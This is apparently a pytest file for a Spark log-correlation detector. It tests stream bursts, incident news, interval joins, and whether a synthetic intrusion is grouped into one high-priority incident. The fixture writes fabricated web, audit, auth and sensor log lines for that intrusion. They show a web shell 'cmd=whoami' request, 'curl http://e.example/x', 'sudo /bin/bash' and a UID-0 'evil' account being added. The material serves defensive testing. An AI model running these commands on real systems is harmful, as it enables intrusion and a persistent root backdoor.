"""Streams against the same rows as tables: bursts, news of incidents, interval joins, and the whole chain on the attack of the fixtures."""

from __future__ import annotations

import random
from datetime import datetime, timedelta

import pytest
from pyspark.sql import functions as F

from emberlog.operators.burst import burst_rows
from emberlog.plans.chain import detect_incidents
from emberlog.sources import logs
from emberlog.streaming import joins
from emberlog.streaming.detection import Detection
from emberlog.streaming.stateful import news, stream_bursts, use_rocksdb

T0 = datetime(2024, 5, 1, 10)


def replayed(spark, folder, batches, schema, name):
    """A stream that reads one file of `batches` a time."""
    for k, rows in enumerate(batches):
        part = str(folder / f"{name}-{k}")
        spark.createDataFrame(rows, schema).coalesce(1).write.parquet(part)
        (folder / name).mkdir(exist_ok=True)
        for f in sorted((folder / f"{name}-{k}").glob("part-*.parquet")):
            f.rename(folder / name / f"{k:03}.parquet")
            import os

            os.utime(folder / name / f"{k:03}.parquet", (k + 1, k + 1))
    found = spark.createDataFrame([], schema).schema
    return spark.readStream.schema(found).option("maxFilesPerTrigger", 1).parquet(str(folder / name))


def finished(df, folder, name, mode="append"):
    q = df.writeStream.format("parquet").option("checkpointLocation", str(folder / f"cp-{name}")).outputMode(mode).trigger(availableNow=True).start(str(folder / f"out-{name}"))
    q.awaitTermination()
    return q


@pytest.mark.parametrize("least", [1, 3])
def test_bursts_in_order_of_time(spark, tmp_path, least):
    use_rocksdb(spark)
    rng = random.Random(least)
    rows, at = [], dict.fromkeys("ab", 0)
    for k in range(240):
        u = rng.choice("ab")
        at[u] += rng.choice([0, 1, 5, 20, 60, 61])
        rows.append((u, T0 + timedelta(seconds=at[u]), f"r{k:03}"))
    rows.sort(key=lambda r: r[1])
    batches = [rows[:80], rows[80:160], rows[160:], [("z", T0 + timedelta(days=2), "end")], [("z", T0 + timedelta(days=3), "end2")]]
    batches[1], batches[2] = batches[1][10:] + batches[2][:5], batches[1][:10] + batches[2][5:]  # some come late
    schema = "user string, ts timestamp, ref string"
    finished(stream_bursts(replayed(spark, tmp_path, batches, schema, "hits"), ("user",), "ts", "ref", 60, least), tmp_path, "bursts")
    got = {(r.user, r.ref): r.burst_at for r in spark.read.parquet(str(tmp_path / "out-bursts")).collect() if r.user != "z"}
    hits = spark.createDataFrame(rows, schema).withColumn("at", F.unix_micros("ts"))
    covered = burst_rows(hits, ("user",), "at", "ref", 60_000_000, least)
    first = covered.groupBy("user", "burst").agg(F.min("at").alias("burst_at"))
    assert got == {(r.user, r.ref): r.burst_at for r in covered.join(first, ["user", "burst"]).collect()}
    assert len(got) > 20


def test_news_expire_but_stay_in_the_store(spark, tmp_path):
    use_rocksdb(spark)
    run = lambda h, *found: [(k, "i" + k, T0 + timedelta(hours=e), n, "P2", 30, "investigate", T0 + timedelta(hours=h)) for k, e, n in found]
    batches = [run(0, ("a", 0, 3), ("b", 0, 1)), run(1, ("a", 0, 3), ("b", 0, 2)), run(2, ("a", 1, 2)), run(27, ("a", 1, 2), ("c", 1, 1)), run(28, ("b", 0, 1), ("a", 1, 2))]
    schema = "incident_key string, incident_id string, window_end timestamp, member_count long, priority string, triage_score long, route string, run_at timestamp"
    finished(news(replayed(spark, tmp_path, batches, schema, "runs")), tmp_path, "news")
    got = {(r.incident_key, (r.run_at - T0) // timedelta(hours=1)): (r.emit, r.max_member_count, r.n_emitted, (r.first_seen - T0) // timedelta(hours=1)) for r in spark.read.parquet(str(tmp_path / "out-news")).collect()}
    assert got == {
        ("a", 0): ("new", 3, 1, 0), ("b", 0): ("new", 1, 1, 0), ("a", 1): ("silent", 3, 1, 0), ("b", 1): ("update", 2, 2, 0), ("a", 2): ("update", 3, 2, 0),
        ("a", 27): ("new", 2, 3, 0), ("c", 27): ("new", 1, 1, 27), ("b", 28): ("new", 1, 3, 0), ("a", 28): ("silent", 2, 3, 0),
    }


EVENT = "ts timestamp, layer string, raw_ref string, machine string, src_ip string, ld struct<method:string,path:string,status:long,uid:long,xff_status:string>"


def event(at, layer, ref, ip="9.9.9.9", path="/a", uid=33, machine="m"):
    return (T0 + timedelta(seconds=at), layer, ref, machine, ip, ("GET", path, 200, uid, "valid"))


def test_interval_joins(spark, tmp_path):
    """Rows that are late by less than the hour find their partners, later ones don't; state is dropped behind the watermark."""
    use_rocksdb(spark)
    web = [[event(0, "web", "w0"), event(10, "web", "w1"), event(10.5, "web", "w2")], [event(7000, "web", "w3"), event(5000, "web", "w4")], [event(5001, "web", "w7")], [event(30, "web", "late"), event(200_000, "web", "w5")], [event(300_000, "web", "w6")]]
    net = [[event(0.5, "network", "n0"), event(10.2, "network", "n1"), event(12, "network", "n2")], [event(7000.9, "network", "n3")], [event(5000.4, "network", "n4")], [event(30, "network", "late"), event(200_000, "network", "n5")], [event(300_000, "network", "n6")]]
    system = [[event(4, "system", "s0"), event(13, "system", "s1", machine="other"), event(0, "system", "s2", uid=0)], [event(6996, "system", "s3")], [event(5004, "system", "s4")], [event(30, "system", "late"), event(200_006, "system", "s5")], [event(300_000, "system", "s6")]]
    side = {n: replayed(spark, tmp_path, b, EVENT, n) for n, b in (("web", web), ("net", net), ("system", system))}
    q = finished(joins.web_network(side["web"], side["net"]), tmp_path, "wn")
    pairs = lambda n: {(r.a, r.b) for r in spark.read.parquet(str(tmp_path / f"out-{n}")).collect()}
    assert pairs("wn") >= {("w0", "n0"), ("w3", "n3"), ("w5", "n5")} and not {"n1", "n2", "late"} & {b for _, b in pairs("wn")}
    assert sum(s["numRowsTotal"] for s in q.lastProgress["stateOperators"]) <= 8
    finished(joins.web_system(side["web"], side["system"]), tmp_path, "ws")
    assert pairs("ws") == {("w0", "s0"), ("w3", "s3"), ("w4", "s4"), ("w7", "s4"), ("w6", "s6")}
    commands = side["system"].select(F.col("ts").alias("c_ts"), F.col("raw_ref").alias("b"))
    requests = side["web"].select(F.col("ts").alias("r_ts"), F.col("raw_ref").alias("a"))
    finished(joins.followed(requests, commands, "r_ts", "c_ts", 120), tmp_path, "fo")
    assert pairs("fo") == {("w0", "s0"), ("w0", "s1"), ("w0", "s2"), ("w1", "s1"), ("w2", "s1"), ("w4", "s4"), ("w7", "s4"), ("w5", "s5"), ("w6", "s6")}


def stamp(at):
    return (T0 + timedelta(seconds=at)).strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def request(at, ip, method, target, status=200, agent="agent"):
    return f'{stamp(at)} r {ip} 10.0.0.1 https shop "{method} {target} HTTP/1.1" {status} 12 345 99 "-" "{agent}" xff="-"'


def record(at, serial, pid, ppid, comm, args, uid=33):
    epoch, words = (T0 - datetime(1970, 1, 1)).total_seconds() + at, args.split()
    named = " ".join(f'a{k}="{w}"' for k, w in enumerate(words))
    head = f"msg=audit({epoch:.3f}:{serial}):"
    return [f'type=SYSCALL {head} arch=c000003e syscall=59 success=yes exit=0 ppid={ppid} pid={pid} auid=4294967295 uid={uid} euid={uid} tty=(none) ses=4294967295 comm="{comm}" exe="/usr/bin/{comm}" key=(null)', f"type=EXECVE {head} argc={len(words)} {named}"]


def sensor(at, kind, extra):
    return f'{{"timestamp":"{stamp(at).replace("Z", "+0000")}","event_type":"{kind}","flow_id":5,"in_iface":"e","src_ip":"10.0.0.2","src_port":1,"dest_ip":"10.0.0.1","dest_port":80,"proto":"TCP","xff":"9.9.9.9",{extra}}}'


def scenario():
    """Lines of three batches by log, and the references of the attack."""
    scan = [request(k, "9.9.9.9", "GET", f"/index.php?p=x{k}", 404, "Nikto") for k in range(5)]
    login = [request(10 + k, "9.9.9.9", "POST", "/index.php?p=/login", 401) for k in range(20)]
    shell = [request(60, "9.9.9.9", "POST", "/index.php?p=upload.php"), request(70, "9.9.9.9", "GET", "/index.php?cmd=whoami")]
    other = [request(600 + 9 * k, "8.8.8.8", "POST", "/login", 401) for k in range(20)]
    noise = [request(1000 + 7 * k, f"8.8.4.{k % 20 + 1}", "GET", f"/page{k}") for k in range(60)]
    audit = record(71, 1, 70, 60, "sh", "sh -c id") + record(72, 2, 76, 70, "curl", "curl http://e.example/x") + record(73, 3, 77, 70, "sudo", "sudo /bin/bash") + record(75, 4, 78, 77, "useradd", "useradd evil", 0)
    auth = [f"{stamp(73.5)} m sudo[77]: www-data : TTY=unknown ; PWD=/ ; USER=root ; COMMAND=/bin/bash", f"{stamp(75.5)} m useradd[78]: new user: name=evil, UID=0, GID=0, home=/root, shell=/bin/bash, from=none", f"{stamp(1300)} m sshd[900]: Server listening on 0.0.0.0 port 22."]
    eve = [sensor(70.2, "http", '"http":{"url":"/index.php?cmd=whoami","http_method":"GET","status":200}'), sensor(70.4, "alert", '"alert":{"signature":"WEB shell command","signature_id":7,"severity":1}')]
    web = [scan + login + other[:0], shell + other + noise[:30], [request(800, "8.8.8.8", "POST", "/login", 401)] + noise[30:]]
    refs = {f"web.log:{k + 1}" for k in range(27)} | {f"audit.log:{k}" for k in (1, 3, 5, 7)} | {"auth.log:1", "auth.log:2", "eve.json:1", "eve.json:2"}
    return web, audit, auth, eve, refs


@pytest.fixture(scope="module")
def batches(spark):
    web, audit, auth, eve, refs = scenario()

    def rows(name, ls, start=0):
        return spark.createDataFrame([(name, start + k + 1, l) for k, l in enumerate(ls)], "file string, line_no long, line string")

    first, second, third = (rows("web.log", w, sum(map(len, web[:k]))) for k, w in enumerate(web))
    more = logs.all_events(logs.audit_events(rows("audit.log", audit), "m"), logs.auth_events(rows("auth.log", auth), 2024, 5), logs.network_events(rows("eve.json", eve)))
    return [logs.web_events(first, "m"), logs.all_events(logs.web_events(second, "m"), more), logs.web_events(third, "m")], refs


def test_attack_in_a_table(batches):
    parts, refs = batches
    found = detect_incidents(logs.all_events(*parts)).collect()
    [attack] = [r for r in found if refs & set(r.members) and r.priority == "P1"]
    assert set(attack.members) == refs and attack.layers == ["auth", "network", "system", "web"]
    [other] = [r for r in found if r.entity == "8.8.8.8"]
    assert (other.priority, other.member_count) == ("P3", 21)
    assert not [r for r in found if r.entity and r.entity.startswith("8.8.4.")]


def test_attack_in_a_stream(spark, batches, tmp_path):
    """Three batches: the runs are those of the tables so far, and the news follow from them; a restart adds nothing."""
    parts, refs = batches
    schema = logs.all_events(*parts).schema
    stream = replayed(spark, tmp_path, [p.collect() for p in parts], schema, "events")
    d = Detection(spark, str(tmp_path / "d"))
    d.run(stream)
    runs = spark.read.parquet(d.at("runs")).collect()
    for k in (0, 2):
        want = detect_incidents(logs.all_events(*parts[: k + 1])).collect()
        assert {(r.incident_key, r.incident_id, r.member_count, r.priority) for r in runs if r.batch == k} == {(r.incident_key, r.incident_id, r.member_count, r.priority) for r in want}
    told = {}
    for r in sorted(spark.read.parquet(d.at("news")).collect(), key=lambda r: r.run_at):
        told.setdefault(r.incident_key, []).append(r.emit)
    key = {r.entity: r.incident_key for r in runs if r.entity == "8.8.8.8"} | {"attack": r.incident_key for r in runs if set(r.members) == refs}
    assert told[key["8.8.8.8"]] == ["new", "update"] and told[key["attack"]] == ["new", "silent"]
    assert {r.incident_key for r in d.store().collect()} == set(told)
    d.run(stream)
    assert spark.read.parquet(d.at("news")).count() == sum(map(len, told.values()))
